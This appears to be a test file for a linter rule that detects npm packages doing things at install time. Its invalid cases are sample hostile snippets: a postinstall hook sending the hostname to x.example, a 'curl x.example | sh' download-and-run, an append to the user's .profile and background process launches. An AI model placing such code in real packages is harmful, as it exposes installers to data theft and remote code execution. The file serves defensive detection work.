import rule from '../../rules/install-time-behaviour.js';
import { ruleTester } from '../rule-tester.js';

ruleTester(rule, {
  valid: [
    'const { execFileSync } = require("child_process");\nif (process.env.npm_config_python) execFileSync(process.env.npm_config_python, ["-c", "import sys; print(sys.executable)"]);',
    'if (process.env.npm_lifecycle_event === "postinstall") console.log("thanks for installing");',
    'const cp = require("child_process");\nif (process.env.npm_config_build_from_source) cp.spawnSync("node-gyp", ["rebuild"]);',
    'const fs = require("fs"), path = require("path");\nif (process.env.npm_lifecycle_event === "postinstall") fs.writeFileSync(path.join(__dirname, "build", "config.json"), "{}");',
    'if (process.env.NODE_ENV === "production") fetch("https://api.example.com");',
    'const cp = require("child_process");\nif (process.argv.includes("--verbose")) cp.exec(cmd);',
    'if (process.env.npm_lifecycle_event === "test") { runTests(); }\nfetch("https://x.example");',
  ],
  invalid: [
    {
      code: 'const { npm_lifecycle_event: stage } = process.env;\nif (stage === "postinstall") require("child_process").exec("sh ./setup.sh");',
      errors: [{ messageId: 'gated', line: 2, column: 5 }],
    },
    {
      code: 'const https = require("https");\nif (process.env.npm_lifecycle_event === "postinstall") {\n  https.get("https://x.example/i?h=" + require("os").hostname());\n}',
      errors: [{ messageId: 'gated', line: 2, column: 5, message: 'uses the network' }],
    },
    {
      code: 'const cp = require("child_process");\nfunction main() {\n  if (process.env.npm_lifecycle_event !== "preinstall") return;\n  cp.exec("node ./lib/setup.js &");\n}\nmain();',
      errors: [{ messageId: 'gated', line: 3, column: 7, message: 'starts a process' }],
    },
    {
      code: 'const fs = require("fs"), os = require("os");\nconst isInstall = /install/.test(process.env.npm_lifecycle_script || "");\nfunction persist() { fs.appendFileSync(os.homedir() + "/.profile", "x"); }\nif (isInstall) persist();',
      errors: [{ messageId: 'gated', line: 4, column: 5, message: 'outside the package' }],
    },
    {
      code: 'const cp = require("child_process");\nprocess.env.npm_package_name && cp.spawn("sh", ["-c", "curl x.example | sh"]);',
      errors: [{ messageId: 'gated', line: 2, column: 1 }],
    },
    {
      code: 'if (process.argv[2] === "postinstall") require("child_process").execSync("whoami");',
      errors: [{ messageId: 'gated', line: 1, column: 5 }],
    },
    {
      code: 'const e = process.env;\nswitch (e["npm_lifecycle_" + "event"]) {\n  case "install": fetch("https://x.example/c", { method: "POST", body: "1" }); break;\n}',
      errors: [{ messageId: 'gated', line: 2, column: 9 }],
    },
    {
      code: 'const lifecycle = process.env.npm_lifecycle_event;\nconst go = lifecycle === "postinstall";\nconst r = go ? require("https").request({ host: "x.example" }) : null;',
      errors: [{ messageId: 'gated', line: 3, column: 11 }],
    },
  ],
});
